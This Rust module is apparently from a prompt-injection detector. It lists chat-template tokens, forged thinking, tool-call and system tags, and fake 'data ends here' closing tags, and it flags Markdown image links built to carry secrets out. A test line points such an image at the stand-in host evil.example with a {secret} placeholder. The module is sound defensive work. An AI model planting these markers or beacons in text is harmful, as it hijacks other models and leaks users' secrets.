//! Signs by which chat programs tell voices apart, and which no honest text holds.

use super::finding::{Code, Family, Finding, Layer};

/// Each with its reason. Small letters; capitals don't matter.
const MARKERS: &[(&str, &str)] = &[
    ("<|im_start|>", "the sign by which a chat begins a voice"),
    ("<|im_end|>", "the sign by which a chat ends a voice"),
    ("<|endoftext|>", "the sign by which a text ends for a model"),
    (
        "<|end_of_text|>",
        "the sign by which a text ends for a model",
    ),
    ("<|eot_id|>", "the sign by which a chat ends a voice"),
    (
        "<|system|>",
        "the sign by which a chat begins the system's voice",
    ),
    (
        "<|user|>",
        "the sign by which a chat begins the user's voice",
    ),
    (
        "<|assistant|>",
        "the sign by which a chat begins the assistant's voice",
    ),
    (
        "<|start_header_id|>",
        "the sign by which a chat begins a voice",
    ),
    ("<|channel|>", "the sign by which a chat begins a voice"),
    ("<start_of_turn>", "the sign by which a chat begins a voice"),
    ("<end_of_turn>", "the sign by which a chat ends a voice"),
    ("[inst]", "the sign by which a chat begins an instruction"),
    ("[/inst]", "the sign by which a chat ends an instruction"),
    (
        "<<sys>>",
        "the sign by which a chat begins the system's voice",
    ),
    ("<thinking>", "forged thoughts of a model"),
    ("<think>", "forged thoughts of a model"),
    ("</think", "forged thoughts of a model"),
    ("<scratchpad>", "forged thoughts of a model"),
    ("<tool_call>", "a forged call of a tool"),
    ("<function_call", "a forged call of a tool"),
    ("<tool_result", "a forged answer of a tool"),
    ("<system>", "pretends to be the system"),
    ("<system-reminder>", "pretends to be the system"),
    ("</untrusted", "pretends that the data ends here"),
    ("</user_input>", "pretends that the data ends here"),
    ("</document>", "pretends that the data ends here"),
    ("</context>", "pretends that the data ends here"),
    ("</data>", "pretends that the data ends here"),
    ("</system>", "pretends that the data ends here"),
    ("</instructions>", "pretends that the data ends here"),
    ("</tool_result>", "pretends that the data ends here"),
];

/// How many bytes a Markdown image may have.
const LONGEST_IMAGE: usize = 2048;

/// Finds every sign. A closing tag whose opening one stands before it is no sign.
pub(super) fn find(text: &str) -> Vec<Finding> {
    let mut found = Vec::new();
    for (at, _) in text.match_indices(['<', '[']) {
        let rest = &text.as_bytes()[at..];
        let begins = |marker: &&(&str, &str)| {
            let length = marker.0.len();
            rest.get(..length)
                .is_some_and(|head| head.eq_ignore_ascii_case(marker.0.as_bytes()))
        };
        let Some((marker, reason)) = MARKERS.iter().find(begins) else {
            continue;
        };
        if !is_answered(&text[..at], marker) {
            found.push(Finding {
                code: Code::InjectionSuspected,
                family: Family::ContextTermination,
                layer: Layer::PlainText,
                start: at,
                end: at + marker.len(),
                explanation: reason,
            });
            if found.len() >= super::MOST_FINDINGS {
                break;
            }
        }
    }
    found
}

/// Finds Markdown images from elsewhere whose address is to be filled in, by which a page that shows
/// them tells what was filled in.
pub(super) fn beacons(text: &str) -> Vec<Finding> {
    let image = |(at, _): (usize, &str)| {
        let end = text.floor_char_boundary(text.len().min(at + LONGEST_IMAGE));
        let (_, rest) = text[at..end].split_once("](")?;
        let (address, _) = rest.split_once(')')?;
        let (_, query) = address.strip_prefix("http")?.split_once('?')?;
        query.contains(['{', '[', '<', '$']).then(|| Finding {
            code: Code::ExfiltrationRequest,
            family: Family::Exfiltration,
            layer: Layer::PlainText,
            start: at,
            end: at + 2,
            explanation: "an image whose address is to be filled in",
        })
    };
    text.match_indices("![")
        .take(super::MOST_FINDINGS)
        .filter_map(image)
        .collect()
}

/// Whether a closing tag has its opening one in the text before it.
fn is_answered(before: &str, marker: &str) -> bool {
    let Some(name) = marker.strip_prefix("</") else {
        return false;
    };
    let from = before.floor_char_boundary(before.len().saturating_sub(64 * 1024));
    before[from..].contains(&format!("<{}", name.trim_end_matches('>')))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signs_of_chats_are_found_and_honest_tags_are_not() {
        let found = |text: &str| {
            find(text)
                .iter()
                .map(|one| (one.start, one.end))
                .collect::<Vec<_>>()
        };
        assert_eq!(found("a <|IM_START|>system"), [(2, 14)]);
        assert_eq!(found("a</document> [INST]"), [(1, 12), (13, 19)]);
        assert_eq!(found("<document>a</document> <b>[1]</b>"), []);
    }

    #[test]
    fn an_image_to_be_filled_in_is_a_beacon() {
        let found = |text: &str| beacons(text).len();
        assert_eq!(found("a ![b](https://evil.example/?q={secret})"), 1);
        assert_eq!(found("a ![b](https://good.example/?size=9) {c} ![d]("), 0);
    }
}
